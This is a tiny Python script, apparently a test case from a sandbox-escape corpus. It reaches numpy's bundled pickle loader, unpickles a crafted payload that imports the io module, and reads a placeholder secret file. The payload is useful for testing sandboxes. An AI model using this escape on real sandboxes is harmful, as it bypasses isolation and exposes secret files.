# attack: numpy keeps pickle in its compat package; the way there goes through a compiled module that has numpy as `np`
# family: pickle
import numpy
loads = numpy.random.mtrand.np.compat.pickle.loads
io = loads(b"cbuiltins\n__import__\n(S'io'\ntR.")
print("REACHED", io)
print(io.open("$SECRET_FILE").read())
